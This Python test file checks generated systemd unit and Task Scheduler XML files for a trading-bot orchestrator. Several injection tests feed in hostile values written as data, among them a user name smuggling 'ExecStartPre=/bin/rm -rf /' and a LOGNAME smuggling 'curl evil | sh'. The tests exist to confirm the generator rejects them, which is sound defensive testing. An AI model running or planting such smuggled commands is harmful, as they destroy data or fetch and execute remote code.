"""Generated deployment files: a systemd unit that systemd accepts, a well-formed Task Scheduler task."""

from __future__ import annotations

import configparser
import shutil
import subprocess
import xml.etree.ElementTree as ET

import pytest

from src.orchestration.ops import deploy
from src.orchestration import startup
from src.orchestration.config import REPO_ROOT, OrchestrationConfig
from tests.helpers.ci import skip_or_fail

NS = {"t": deploy.TASK_NAMESPACE}


def unit_sections(text: str) -> configparser.ConfigParser:
    parser = configparser.ConfigParser(strict=False, interpolation=None)
    parser.optionxform = str
    parser.read_string(text)
    return parser


def test_systemd_unit_is_notify_type_with_absolute_paths_and_no_retry_codes():
    config = OrchestrationConfig(gateway_health_timeout=120, docker_wait_timeout=60, twofa_wait_timeout=180,
                                 bot_ready_timeout=30)
    unit = unit_sections(deploy.systemd_unit(config, user="trader"))
    service = unit["Service"]
    assert service["Type"] == "notify" and service["NotifyAccess"] == "main"  # the wrapper execs it
    assert service["KillMode"] == "mixed"  # SIGTERM to the orchestrator alone: it stops the bot in order
    assert service["ExecStart"] == f"{REPO_ROOT}/docker/gateway/scripts/production-startup.sh --supervise"
    assert service["WorkingDirectory"] == str(REPO_ROOT)
    assert service["Restart"] == "on-failure" and service["RestartPreventExitStatus"] == "76 77 78"
    assert service["User"] == "trader"
    assert int(service["TimeoutStartSec"]) >= 60 + 2 * 120 + 180 + 30


def test_boot_starts_the_unit_once_finished_so_a_holding_start_up_never_holds_boot():
    """Under a real systemd: tests/production/test_systemd.py. Here: the files say so."""
    main = unit_sections(deploy.systemd_unit(OrchestrationConfig(), user="trader"))
    assert "WantedBy" not in main["Install"] and main["Install"]["Also"] == deploy.BOOT_UNIT
    boot = unit_sections(deploy.boot_unit())
    assert boot["Install"]["WantedBy"] == "multi-user.target" and boot["Service"]["Type"] == "exec"
    assert "systemctl is-system-running --wait" in boot["Service"]["ExecStart"]
    assert "systemctl start --no-block ibkr-zero-touch.service" in boot["Service"]["ExecStart"]


def test_systemd_never_reads_dotenv_itself():
    """systemd's EnvironmentFile= grammar is not .env's (`GAMEPLAN_PATH=/srv/plan.json # analyst` became a
    missing plan under systemd only) and its values would win: only the orchestrator reads .env."""
    text = deploy.systemd_unit(OrchestrationConfig(), user="trader")
    assert "EnvironmentFile" not in unit_sections(text)["Service"]
    assert not [line for line in text.splitlines() if line.startswith(("EnvironmentFile", "Environment="))]


@pytest.mark.parametrize("changes", [{}, {"gateway_health_timeout": 3600, "twofa_wait_timeout": 600},
                                     {"docker_wait_timeout": 0, "gateway_health_timeout": 1}])
def test_start_limit_interval_holds_the_burst_of_failing_starts(changes):
    """A start that fails at TimeoutStartSec, then RestartSec: StartLimitBurst of them must fit in
    StartLimitIntervalSec, or the limit is never reached and a broken Gateway is retried forever."""
    unit = unit_sections(deploy.systemd_unit(OrchestrationConfig(**changes), user="trader"))
    burst, interval = int(unit["Unit"]["StartLimitBurst"]), int(unit["Unit"]["StartLimitIntervalSec"])
    timeout, restart = int(unit["Service"]["TimeoutStartSec"]), int(unit["Service"]["RestartSec"])
    assert burst >= 2 and interval >= burst * (timeout + restart)


@pytest.mark.parametrize(("repo", "user"), [
    ("/opt/ibkr 100%", "trader"),
    ("/opt/my repo", "trader"),
    ('/opt/ib"kr', "trader"),
    ("/opt/ib'kr", "trader"),
    ("/opt/ibkr\nExecStartPre=/bin/sh", "trader"),
    ("/opt/ibkr", "trader\nExecStartPre=/bin/rm -rf /"),
    ("/opt/ibkr", "tra der"),
    ("/opt/ibkr", "%n"),
    ("/opt/ibkr", ""),
])
def test_the_unit_refuses_what_it_cannot_write_literally(tmp_path, repo, user):
    with pytest.raises(deploy.DeployError) as refused:
        deploy.systemd_unit(OrchestrationConfig(), repo=tmp_path / repo.lstrip("/"), user=user)
    message = str(refused.value)
    assert message.startswith("refusing to write the file: ") and "\n" not in message


@pytest.mark.parametrize(("repo", "distro"), [
    ("/opt/ibkr %USERPROFILE%", "Ubuntu"),
    ("/opt/my repo", "Ubuntu"),
    ('/opt/ib"kr', "Ubuntu"),
    ("/opt/ibkr", "Ubuntu 24.04"),
    ("/opt/ibkr", "Ubuntu\t"),
    ("/opt/ibkr", "Ubuntu\r\n--exec"),
    ("/opt/ibkr", ""),
])
def test_the_task_refuses_what_it_cannot_write_literally(tmp_path, repo, distro):
    with pytest.raises(deploy.DeployError) as refused:
        deploy.task_xml(repo=tmp_path / repo.lstrip("/"), distro=distro)
    assert "\n" not in str(refused.value)


def test_cli_refuses_an_injected_user_name_with_one_line_and_exit_1(monkeypatch, capsys):
    """getpass reads LOGNAME first: a newline in it used to write an ExecStartPre= into the unit."""
    monkeypatch.setenv("LOGNAME", "trader\nExecStartPre=/bin/sh -c 'curl evil | sh'")
    assert startup.main(["--print-systemd-unit"], environ={}) == 1
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.startswith("startup: refusing to write the file: user name ") and \
        captured.err.count("\n") == 1


def test_cli_refuses_a_distro_with_spaces_with_one_line_and_exit_1(capsys):
    assert startup.main(["--print-task-xml", "--wsl-distro", "Ubuntu; rm"], environ={}) == 1
    captured = capsys.readouterr()
    assert captured.out == "" and captured.err == (
        "startup: refusing to write the file: WSL distribution 'Ubuntu; rm' must be letters, digits, '_', '.', "
        "'-' (no spaces or control characters)\n")


def test_systemd_analyze_verify_accepts_the_unit(tmp_path):
    if shutil.which("systemd-analyze") is None:
        skip_or_fail("systemd-analyze not installed (apt-get install systemd)")
    path = tmp_path / "ibkr-zero-touch.service"
    path.write_text(deploy.systemd_unit(OrchestrationConfig()))
    result = subprocess.run(["systemd-analyze", "verify", str(path)], capture_output=True, text=True, timeout=60)
    problems = [line for line in result.stderr.splitlines() if "ibkr-zero-touch.service" in line]
    assert result.returncode == 0 and problems == [], result.stderr


def test_task_xml_is_well_formed_in_the_task_scheduler_namespace():
    root = ET.fromstring(deploy.task_xml(distro="Ubuntu-24.04"))
    assert root.tag == f"{{{deploy.TASK_NAMESPACE}}}Task"
    assert root.find("t:Triggers/t:LogonTrigger/t:Delay", NS).text == "PT2M"
    assert root.find("t:Principals/t:Principal/t:LogonType", NS).text == "InteractiveToken"
    assert root.find("t:Settings/t:ExecutionTimeLimit", NS).text == "PT0S"
    assert root.find("t:Actions/t:Exec/t:Command", NS).text == "wsl.exe"
    arguments = root.find("t:Actions/t:Exec/t:Arguments", NS).text
    assert arguments == f"-d Ubuntu-24.04 -- {REPO_ROOT}/docker/gateway/scripts/production-startup.sh --supervise"


def test_task_relaunches_a_dead_supervisor_without_ever_running_two():
    """RestartOnFailure does not fire when the action exits non-zero: the logon trigger repeats, and
    IgnoreNew makes a repetition a no-op while the supervisor runs."""
    root = ET.fromstring(deploy.task_xml())
    triggers = list(root.find("t:Triggers", NS))
    assert [trigger.tag for trigger in triggers] == [f"{{{deploy.TASK_NAMESPACE}}}LogonTrigger"]
    logon = triggers[0]
    # Task Scheduler reads the trigger as the schema's sequence: Repetition first, Delay last.
    assert [child.tag.split("}")[1] for child in logon] == ["Repetition", "Enabled", "Delay"]
    interval = logon.find("t:Repetition/t:Interval", NS).text
    assert interval == "PT15M"
    assert logon.find("t:Repetition/t:Duration", NS) is None  # repeated indefinitely
    assert logon.find("t:Repetition/t:StopAtDurationEnd", NS).text == "false"  # never stops the supervisor
    assert root.find("t:Settings/t:MultipleInstancesPolicy", NS).text == "IgnoreNew"


@pytest.mark.parametrize("flag", ["--print-systemd-unit", "--print-task-xml"])
def test_cli_prints_the_files(flag, capsys):
    assert startup.main([flag], environ={}) == 0
    out = capsys.readouterr().out
    assert "production-startup.sh --supervise" in out


def test_cli_prints_the_boot_unit(capsys):
    assert startup.main(["--print-boot-unit"], environ={}) == 0
    assert "ibkr-zero-touch.service" in capsys.readouterr().out


def test_supervise_config_error_exits_with_the_no_retry_code(capsys):
    assert startup.main(["--supervise"], environ={"GATEWAY_PORT": "abc"}) == 78
    assert startup.main([], environ={"GATEWAY_PORT": "abc"}) == 1


@pytest.mark.parametrize("stop_gateway", ["false", "true"])
def test_the_stop_timeout_fits_the_worst_stop_path(tmp_path, stop_gateway):
    """The bot's grace, the Gateway's tidy stop (IBC's STOP, then docker stop) when SUPERVISE_STOP_GATEWAY, the
    alerts' drain: a TimeoutStopSec of 60 once cut that path short with SIGKILL."""
    from src.orchestration.config import OrchestrationConfig
    from src.orchestration.ops.deploy import systemd_unit
    from src.core.durations import ALERT_DRAIN, BOT_STOP_GRACE

    config = OrchestrationConfig.from_env({"SUPERVISE_STOP_GATEWAY": stop_gateway}, dotenv=tmp_path / "none")
    unit = systemd_unit(config, user="trader")
    seconds = int(next(line for line in unit.splitlines() if line.startswith("TimeoutStopSec=")).split("=")[1])
    worst = BOT_STOP_GRACE + ALERT_DRAIN + (30 + 2 * config.docker_command_timeout if stop_gateway == "true" else 0)
    assert seconds > worst


def test_when_systemd_gives_up_the_operator_is_told_once(tmp_path):
    """OnFailure= runs --systemd-gave-up: one critical alert and a journal line for the start limit hit; an exit
    the orchestrator alerted itself (76-78) is journalled only."""
    from src.orchestration.ops.commands import systemd_gave_up
    from src.orchestration.config import OrchestrationConfig
    from src.orchestration.ops.deploy import FAILURE_UNIT, failure_unit, systemd_unit
    from src.core.journal import read_runs
    from tests.helpers.fakes import RecordingNotifier

    config = OrchestrationConfig.from_env({"STATE_DIR": str(tmp_path)}, dotenv=tmp_path / "none")
    assert f"OnFailure={FAILURE_UNIT}" in systemd_unit(config, user="trader")
    assert "--systemd-gave-up" in failure_unit(config, user="trader")
    notifier = RecordingNotifier()
    systemd_gave_up(config, {"MONITOR_SERVICE_RESULT": "start-limit-hit"}, notifier)
    systemd_gave_up(config, {"MONITOR_SERVICE_RESULT": "exit-code", "MONITOR_EXIT_STATUS": "77"}, notifier)
    assert [level for level, _ in notifier.alerts] == ["critical"]
    assert "start-limit-hit" in notifier.alerts[0][1] and "reset-failed" in notifier.alerts[0][1]
    assert [r["outcome"] for r in read_runs(tmp_path)] == ["systemd_gave_up", "systemd_gave_up"]
